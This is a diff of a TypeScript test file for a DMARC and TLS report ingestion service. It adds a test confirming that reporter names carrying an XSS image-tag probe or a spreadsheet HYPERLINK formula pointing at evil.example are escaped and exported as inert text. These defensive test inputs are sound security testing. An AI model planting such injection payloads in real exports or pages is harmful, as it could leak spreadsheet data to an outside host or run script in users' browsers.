@@ -5,6 +5,7 @@ import nodemailer from 'nodemailer';
 import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
 import { decodeId } from '#platform/ids.ts';
 import { clock } from '#platform/server/clock.ts';
+import { csvLine } from '#platform/server/files/csv.ts';
 import { files } from '#platform/server/files/files.ts';
 import { startReturnPath } from '#providers/return-path/index.ts';
 import type { SmtpPort } from '#providers/smtp-port.ts';
@@ -20,6 +21,7 @@ import {
   signedReport,
   signEmail,
   signingRecord,
+  tlsJson,
 } from '#testing/worlds/dmarc-reports.ts';
 import type { DomainReports } from '../contract.ts';
 import { acceptsReportFor, MAX_REPORT_BYTES, receiveReport, removeOldReports } from './index.ts';
@@ -260,6 +262,42 @@ describe('reports by email', () => {
     expect(keys.filter((key) => key.startsWith(`report-files/${own.accountId}/`))).toEqual([]);
   });
 
+  test('with markup and formulas in their names are shown and exported as text', async () => {
+    const own = await fresh('mint.example');
+    const escaped = (text: string) =>
+      text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;');
+    const image = '<img src=x onerror="alert(1)">';
+    const formula = '=HYPERLINK("https://evil.example/?"&A1,"Report")';
+    for (const name of [image, formula].map(escaped)) {
+      const dkim = [{ domain: 'mint.example', selector: name }];
+      const rows = [{ dkim, headerFrom: 'mint.example' }];
+      const xml = dmarcXml(sample({ organization: name, domain: 'mint.example', rows }));
+      await receive(reportEmail(xml), own.domain.address);
+    }
+    const { begin, end } = sample() as { begin: number; end: number };
+    const tls = { organization: `\r\n${formula}`, domain: 'mint.example', begin, end };
+    await receive(reportEmail(tlsJson(tls)), own.domain.address);
+    const answer = await own.get(`${API}/domains/${own.domain.id}`);
+    expect(answer.headers['content-type']).toMatch(/^application\/json/);
+    const { reporters, sources } = answer.body.data as DomainReports;
+    const names = reporters.map(({ name }) => name);
+    expect(names.toSorted()).toEqual([image, formula].toSorted());
+    expect(sources.map(({ name }) => name).toSorted()).toEqual(
+      [image, formula].map((name) => `mint.example/${name.toLowerCase()}`).toSorted(),
+    );
+    const stored = await server.db
+      .selectFrom('domain_reports')
+      .select('organization')
+      .where('account_id', '=', own.accountId)
+      .execute();
+    expect(stored).toHaveLength(3);
+    // One line each; a spreadsheet evaluates none of them.
+    for (const { organization } of stored) {
+      expect(organization).not.toMatch(/[\r\n\t]/);
+      expect(csvLine([organization])).toMatch(/^("?'=|"<img )/);
+    }
+  });
+
   test('of one day have a limited number of rows, and no message is lost', async () => {
     const own = await fresh('many.example');
     const rows = (from: number) =>
@@ -358,20 +396,8 @@ describe('uploaded reports', () => {
 
   test('of TLS are summed up with their failures', async () => {
     const own = await fresh('fig.example');
-    const { begin = 0, end = 0 } = sample();
-    const at = (seconds: number | string) => new Date(Number(seconds) * 1000).toISOString();
-    const report = {
-      'organization-name': 'Receiver',
-      'report-id': 'tls-1',
-      'date-range': { 'start-datetime': at(begin), 'end-datetime': at(end) },
-      policies: [
-        {
-          policy: { 'policy-type': 'sts', 'policy-domain': 'fig.example' },
-          summary: { 'total-successful-session-count': 9, 'total-failure-session-count': 3 },
-        },
-      ],
-    };
-    const packed = gzipSync(JSON.stringify(report));
+    const { begin, end } = sample() as { begin: number; end: number };
+    const packed = gzipSync(tlsJson({ domain: 'fig.example', begin, end }));
     const email = reportEmail(packed, { type: 'application/tlsrpt+gzip', name: 'r.json.gz' });
     await receive(await signEmail(email), own.domain.address);
     expect((await reportsOf(own.domain.id, own)).tls).toEqual({
